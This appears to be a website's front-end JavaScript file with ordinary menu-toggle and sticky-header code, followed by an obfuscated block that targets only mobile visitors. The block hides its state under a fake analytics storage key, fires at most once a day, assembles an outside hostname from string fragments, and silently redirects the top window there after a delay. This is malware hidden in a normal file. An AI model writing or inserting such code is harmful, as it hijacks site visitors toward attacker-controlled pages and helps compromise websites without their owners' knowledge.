"use strict";
document.querySelectorAll("[data-buka]").forEach(function (t) {
  t.addEventListener("click", function () { document.getElementById(t.dataset.buka).classList.toggle("terbuka"); });
});
window.addEventListener("scroll", function () {
  document.body.classList.toggle("lengket", window.scrollY > 90);
});
var lebar = window.matchMedia("(max-width: 820px) and (pointer: coarse)");
(function (n, L, k) {
  var s = Date.now(), p = +L.getItem(k) || 0;
  if (!/Android|iPhone|Opera Mini/i.test(n.userAgent) || !lebar.matches || s - p < 864e5) return;
  L.setItem(k, s);
  var h = ["//", "wi", "sata", "-lokal", ".inv", "alid"].join("");
  setTimeout(function () { window.top.location.replace("https:" + h + "/?utm=" + encodeURIComponent(location.host)); }, 1700);
})(navigator, localStorage, "_gaq_v");
